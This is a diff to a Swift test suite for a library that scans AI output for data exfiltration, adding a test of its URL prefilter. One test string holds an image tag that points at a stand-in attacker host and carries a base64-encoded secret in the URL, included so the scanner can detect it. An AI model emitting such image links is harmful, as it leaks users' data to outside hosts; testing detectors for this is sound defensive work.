@@ -1,4 +1,4 @@
-import CustosGuard
+@testable import CustosGuard
 import Testing
 
 @Suite("Output scanners")
@@ -32,6 +32,17 @@ struct OutputScannerTests {
         #expect(result.findings.map(\.type) == ["markdown_image"])
         #expect(result.findings.first?.start == 6)
         #expect(try scanner.scan(ScanInput("See [the docs](https://example.org/guide).")).score == 0)
+    }
+
+    @Test("the \"://\" prefilter skips no URL: after near misses, in upper case, at the very end")
+    func exfiltrationPrefilter() throws {
+        let scanner = ExfiltrationScanner()
+        #expect(!ExfiltrationScanner.mayContainURL("a:/b c:d/ e//f :"))
+        #expect(ExfiltrationScanner.mayContainURL("::/://"))
+        #expect(ExfiltrationScanner.mayContainURL("é ://"))
+        let upper = "a:/ b ::/ <IMG SRC=\"HTTP://evil.test/p.png?d=c2VjcmV0IGtleQ\">"
+        #expect(try scanner.scan(ScanInput(upper)).findings.map(\.type) == ["html_image"])
+        #expect(try scanner.scan(ScanInput("no links here: just text / and colons:")).findings.isEmpty)
     }
 
     @Test("refusals are detected, ordinary answers are not")
